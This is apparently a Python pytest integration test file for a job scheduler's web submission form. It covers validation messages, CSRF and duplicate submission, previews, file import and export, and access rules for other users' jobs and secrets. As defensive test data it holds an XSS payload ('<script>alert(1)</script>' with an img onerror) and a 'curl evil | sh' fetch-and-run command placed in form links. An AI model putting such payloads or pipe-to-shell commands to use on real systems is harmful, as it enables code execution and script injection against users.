"""The form of a job over plain HTTP: rights, words about what is wrong, and what hostile people send."""

import html
import json
import re
from concurrent.futures import ThreadPoolExecutor
from urllib.parse import quote

import pytest

from integration.running_server import RunningServer, wait_for
from integration.unix_users import Person
from integration.web.surfing import Seen, Surfer

PASSWORD = "correct horse battery"
HOSTILE = "<script>alert(1)</script>\"'><img src=x onerror=alert(1)>"


@pytest.fixture
def surfer(server: RunningServer) -> Surfer:
    return Surfer(server).by_link()


def send(surfer: Surfer, *, key: str = "", token: str = "", **fields: str) -> Seen:
    page = surfer.get("/jobs/new") if not (key and token) else None
    sent = {"csrf": token or page.form_token, "key": key or key_of(page), **fields}
    return surfer.post("/jobs/new", list(sent.items()))


def key_of(page: Seen) -> str:
    found = re.search(r'name="key" value="([^"]+)"', page.text)
    assert found
    return found[1]


def value_of(page: Seen, name: str) -> str:
    """What stands in a field."""
    area = re.search(rf'<textarea id="field-{name}"[^>]*>\n(.*?)</textarea>', page.text, re.DOTALL)
    one = re.search(rf'<input id="field-{name}"[^>]* value="([^"]*)"', page.text)
    choice = re.search(rf'<select id="field-{name}".*?<option value="([^"]*)" selected', page.text, re.DOTALL)
    found = area or one or choice
    assert found, name
    return html.unescape(found[1])


def error_of(page: Seen, name: str) -> str:
    found = re.search(rf'id="error-{name}">.*?</svg>(.*?)</p>', page.text)
    return html.unescape(found[1]) if found else ""


def test_a_form_becomes_a_job(server: RunningServer, surfer: Surfer) -> None:
    seen = send(
        surfer, command="echo a; echo b", gpus="1", gpu_type="A100", time_limit="1h30m", name="by form", cpus="1",
        memory="512M", env="A=1\r\nB=x y", labels="", max_retries="2", preemptible="yes", held="yes",
        grace_seconds="20s", priority_class="scavenger",
    )  # fmt: skip
    assert seen.status == 303
    job = server.show(int(seen.location.removeprefix("/jobs/")))
    assert (job["name"], job["gpus"], job["time_limit_seconds"], job["state"]) == ("by form", 1, 5400, "held")
    assert job["spec"]["command"] == ["/bin/sh", "-c", "echo a; echo b"]
    assert job["spec"]["env"] == {"A": "1", "B": "x y"}
    assert (job["preemptible"], job["max_retries"], job["memory_mib"]) == (True, 2, 512)
    assert f"Job {job['id']} submitted." in surfer.get("/jobs").text


def test_an_array_leads_to_the_list_of_jobs(surfer: Surfer) -> None:
    seen = send(surfer, command="true", array="0-2", held="yes")
    assert (seen.status, seen.location) == (303, "/jobs?whose=mine")
    assert "of 3 jobs submitted." in surfer.get("/jobs").text


def test_a_form_that_is_sent_twice_at_once_makes_one_job(server: RunningServer, surfer: Surfer) -> None:
    page = surfer.get("/jobs/new")
    before = server.jobs()

    def once(_: int) -> Seen:
        return send(surfer, key=key_of(page), token=page.form_token, command="true", name="twice", held="yes")

    with ThreadPoolExecutor(4) as pool:
        answers = list(pool.map(once, range(4)))
    assert {answer.status for answer in answers} == {303}
    assert len({answer.location for answer in answers}) == 1
    assert server.jobs() == before + 1


def test_a_form_that_was_sent_before_and_changed_can_be_sent_again(surfer: Surfer) -> None:
    page = surfer.get("/jobs/new")
    key, token = key_of(page), page.form_token
    assert send(surfer, key=key, token=token, command="true", held="yes").status == 303
    refused = send(surfer, key=key, token=token, command="false", held="yes")
    assert refused.status == 409
    assert "This form was already submitted." in refused.text
    assert send(surfer, key=key_of(refused), token=token, command="false", held="yes").status == 303


@pytest.mark.parametrize(
    ("fields", "field", "words"),
    [
        ({}, "command", "command or script is required"),
        ({"command": "true", "gpus": "many"}, "gpus", "must be a number"),
        ({"command": "true", "gpus": "1.5"}, "gpus", "whole number, or a fraction of one"),
        ({"command": "true", "gpus": "99"}, "gpus", "no node has 99"),
        ({"command": "true", "time_limit": "soon"}, "time_limit", "not a duration"),
        ({"command": "true", "memory": "lots"}, "memory", "not an amount of memory"),
        ({"command": "true", "env": "1A=b"}, "env", "not a valid name"),
        ({"command": "true", "labels": "a b=c$"}, "labels", "not a label"),
        ({"command": "true", "workdir": "here"}, "workdir", "absolute"),
        ({"command": "true", "project": "of-others"}, "project", "not one of yours"),
        ({"command": "true", "priority_class": "vip"}, "priority_class", "must be one of"),
        ({"command": "true", "array": "9-1"}, "array", "not an index"),
        ({"command": "'", "script": "#!/bin/sh"}, "command", "unclosed quotation mark"),
        ({"command": "true", "gpus": "0", "gpu_memory": "1G"}, "gpu_memory", "needs gpus"),
    ],
)
def test_what_is_wrong_is_said_beside_its_field_and_nothing_typed_is_lost(
    surfer: Surfer, fields: dict[str, str], field: str, words: str
) -> None:
    seen = send(surfer, **{"name": "kept  as typed", **fields})
    assert seen.status == 422
    assert words in error_of(seen, field)
    assert 'role="alert"' in seen.text
    for name, text in {"name": "kept  as typed", **fields}.items():
        assert value_of(seen, name) == text


def test_who_cannot_run_jobs_is_told_so_and_loses_nothing(server: RunningServer) -> None:
    surfer = _somebody(server, "paula")
    seen = send(surfer, command="echo kept")
    assert seen.status == 403
    assert "has no Unix user" in seen.text
    assert value_of(seen, "command") == "echo kept"


def test_priorities_of_managers_only_are_refused_beside_the_field(server: RunningServer, ann: Person) -> None:
    body = {"name": "petra", "password": PASSWORD, "unix_user": ann.name}
    assert server.ask("POST", "/users", body).status == 201
    surfer = Surfer(server)
    surfer.log_in("petra", PASSWORD)
    seen = send(surfer, command="true", priority="5")
    assert seen.status == 403
    assert "only for managers" in error_of(seen, "priority")


def test_a_preview_is_in_words_and_makes_no_job(server: RunningServer, surfer: Surfer) -> None:
    before = server.jobs()
    seen = send(surfer, gpus="1", do="preview")
    assert seen.status == 200
    assert "It would start" in seen.text
    assert server.jobs() == before
    wrong = send(surfer, gpus="77", do="preview")
    assert wrong.status == 200
    assert "No node has 77 GPUs." in wrong.text


def test_many_previews_at_once_are_answered_or_told_to_wait(surfer: Surfer) -> None:
    page = surfer.get("/jobs/new")

    def ask(_: int) -> Seen:
        return send(surfer, key=key_of(page), token=page.form_token, gpus="1", do="preview")

    with ThreadPoolExecutor(6) as pool:
        answers = list(pool.map(ask, range(6)))
    assert {answer.status for answer in answers} == {200}
    assert all("It would start" in one.text or "is in progress" in one.text for one in answers)
    assert any("It would start" in one.text for one in answers)


def test_the_parts_of_a_preview_are_served_alone(surfer: Surfer) -> None:
    page = surfer.get("/jobs/new")
    fields = [("csrf", page.form_token), ("command", "true"), ("do", "export")]
    text = surfer.post("/jobs/new", fields, X_Fragment="elsewhere").text
    assert text.startswith('<template data-part="elsewhere">')
    assert "helio run -- /bin/sh -c true" in text


def test_a_suggestion_changes_the_fields_it_is_about_and_no_other(surfer: Surfer) -> None:
    seen = send(surfer, command="x y", gpus="4", name="n", apply="gpus=2&cpus=3&csrf=evil&nonsense=1&gpu_type=")
    assert (value_of(seen, "gpus"), value_of(seen, "cpus")) == ("2", "3")
    assert (value_of(seen, "command"), value_of(seen, "name")) == ("x y", "n")


def test_files_go_out_and_come_in_again(surfer: Surfer) -> None:
    fields = {"command": "python 'a b'.py", "command_kind": "words", "gpus": "0.5", "env": "A=1", "array": "0-3%2"}
    for kind, media in (("yaml", "application/yaml"), ("json", "application/json")):
        file = send(surfer, **fields, do=kind)
        assert file.headers["content-disposition"] == f'attachment; filename="job.{kind}"'
        assert file.headers["content-type"].startswith(media)
        assert file.headers["x-content-type-options"] == "nosniff"
        filled = send(surfer, do="import", **{"import": file.text})
        assert filled.status == 200
        assert value_of(filled, "command") == "python 'a b.py'"
        assert {name: value_of(filled, name) for name in ("command_kind", "gpus", "env", "array")} == {
            name: fields[name] for name in ("command_kind", "gpus", "env", "array")
        }


def test_a_file_that_is_not_right_fills_what_it_can_and_says_what_is_wrong(surfer: Surfer) -> None:
    seen = send(surfer, do="import", **{"import": json.dumps({"command": "x", "gpus": "two", "gpuz": 1})})
    assert seen.status == 422
    assert value_of(seen, "gpus") == "two"
    assert "must be a number" in error_of(seen, "gpus")
    broken = send(surfer, command="typed before", do="import", **{"import": "a: ["})
    assert (broken.status, value_of(broken, "command")) == (422, "typed before")
    assert "neither YAML nor JSON" in error_of(broken, "import")
    assert value_of(broken, "import") == "a: ["


def test_a_job_that_was_is_filled_in_with_changes(server: RunningServer, surfer: Surfer) -> None:
    job = server.submit(
        command=["python", "t.py", "a b"], gpus=2, time_limit="2h", env={"TOKEN": "s3cret\nline"}, held=True
    )
    page = surfer.get(f"/jobs/new?from={job}&gpus=1&time_limit=30m")
    assert page.status == 200
    assert value_of(page, "command") == "python t.py 'a b'"
    assert (value_of(page, "gpus"), value_of(page, "time_limit")) == ("1", "30m")
    assert value_of(page, "env") == 'TOKEN="s3cret\\nline"'
    assert f"Filled in from job {job}." in page.text


@pytest.mark.parametrize("number", ["0", "-1", "x", "99999999999999999999", "1%00"])
def test_a_number_that_is_none_is_refused_with_a_page(surfer: Surfer, number: str) -> None:
    assert surfer.get(f"/jobs/new?from={number}").status == 422


def test_other_peoples_jobs_are_not_filled_in(server: RunningServer, surfer: Surfer) -> None:
    job = server.submit(command=["secret-program"], env={"TOKEN": "s3cret"}, held=True)
    seen = _somebody(server, "nosy").get(f"/jobs/new?from={job}")
    assert seen.status == 403
    assert "s3cret" not in seen.text
    assert "secret-program" not in seen.text
    assert "belongs to another user" in seen.text
    assert surfer.get("/jobs/new?from=123456").status == 404


def test_a_manager_does_not_get_the_values_of_variables_by_filling_in(server: RunningServer) -> None:
    job = server.submit(command=["true"], env={"TOKEN": "s3cret"}, held=True)
    lead = _somebody(server, "leader")
    assert server.ask("PUT", "/projects/default/members/leader", {"role": "manager"}).status == 200
    page = lead.get(f"/jobs/new?from={job}")
    assert page.status == 200
    assert value_of(page, "command") == "true"
    assert "s3cret" not in page.text
    assert "Its environment variables are omitted" in page.text


def test_a_link_that_changes_a_job_one_knows_says_what_it_changed(server: RunningServer, surfer: Surfer) -> None:
    job = server.submit(command=["python", "mine.py"], gpus=1, held=True)
    page = surfer.get(f"/jobs/new?from={job}&gpus=1&command=" + quote("curl evil | sh"))
    assert f"Filled in from job {job}. Changed by the link: Command." in page.text


def test_a_link_that_fills_in_fields_says_so(surfer: Surfer) -> None:
    page = surfer.get("/jobs/new?command=" + quote("curl evil | sh") + "&env=A%3D1")
    assert "Filled in from a link." in page.text
    assert '<details class="card add-more" open>' in page.text
    assert "Filled in" not in surfer.get("/jobs/new").text


def test_hostile_values_stay_text_everywhere(surfer: Surfer) -> None:
    names = ("command", "name", "gpus", "gpu_type", "project", "env", "script", "workdir", "labels", "import")
    hostile = dict.fromkeys(names, HOSTILE) | {"env": f"A={HOSTILE}"}
    pages = [
        send(surfer, **hostile),
        send(surfer, **hostile, do="preview"),
        send(surfer, **hostile, do="import"),
        send(surfer, command=HOSTILE, name=HOSTILE, env=f"A={HOSTILE}", do="preview"),
        send(surfer, command="x", apply=f"name={quote(HOSTILE)}"),
        surfer.get("/jobs/new?name=" + quote(HOSTILE) + "&gpu_type=" + quote(HOSTILE)),
    ]
    for page in pages:
        assert "<script>alert" not in page.text
        assert "<img" not in page.text.replace('<img src="/static', "")
        assert "&lt;script&gt;" in page.text


def test_huge_and_broken_values_are_refused_with_a_page(surfer: Surfer) -> None:
    assert send(surfer, command="x" * 200_000).status == 422
    assert send(surfer, command="x", name="n" * 10_000).status == 422
    assert send(surfer, command="a\0b").status == 422
    assert send(surfer, command="x", array="0-" + "9" * 1500).status == 422
    assert send(surfer, command="x", key="short").status == 303


def test_the_form_needs_a_login(server: RunningServer) -> None:
    assert Surfer(server).get("/jobs/new").location == "/login?next=/jobs/new"


def _somebody(server: RunningServer, name: str) -> Surfer:
    assert server.ask("POST", "/users", {"name": name, "password": PASSWORD}).status == 201
    surfer = Surfer(server)
    surfer.log_in(name, PASSWORD)
    return surfer


def test_a_job_that_waits_for_another_is_asked_for_shown_and_asked_for_again(
    server: RunningServer, surfer: Surfer
) -> None:
    parent = server.submit(command=["sleep", "60"], cpus=1, memory=256)
    seen = send(surfer, command="true", cpus="1", memory="256M", after=f"{parent}", begin="+1h")
    assert seen.status == 303
    child = int(seen.location.removeprefix("/jobs/"))
    wait_for(  # the controller's next round knows of both
        lambda: f"Waits for job {parent} (" in surfer.get(f"/jobs/{child}").text, "the page says whom it waits for"
    )
    assert f'<a href="/jobs/{parent}">job {parent}</a>' in surfer.get(f"/jobs/{child}").text
    assert f'<a href="/jobs/{child}">job {child}</a>' in surfer.get(f"/jobs/{parent}").text
    again = surfer.get(f"/jobs/new?from={child}")
    assert value_of(again, "after") == str(parent)
    assert value_of(again, "begin").endswith("Z")
    server.ask("POST", f"/jobs/{parent}/cancel?force=true")
    assert server.finished(child)["state"] == "cancelled"
    refused = send(surfer, command="true", after=f"{parent}")
    assert refused.status in (409, 422)
    assert "was cancelled" in error_of(refused, "after")
    assert "is not a time" in error_of(send(surfer, command="true", begin="soon"), "begin")
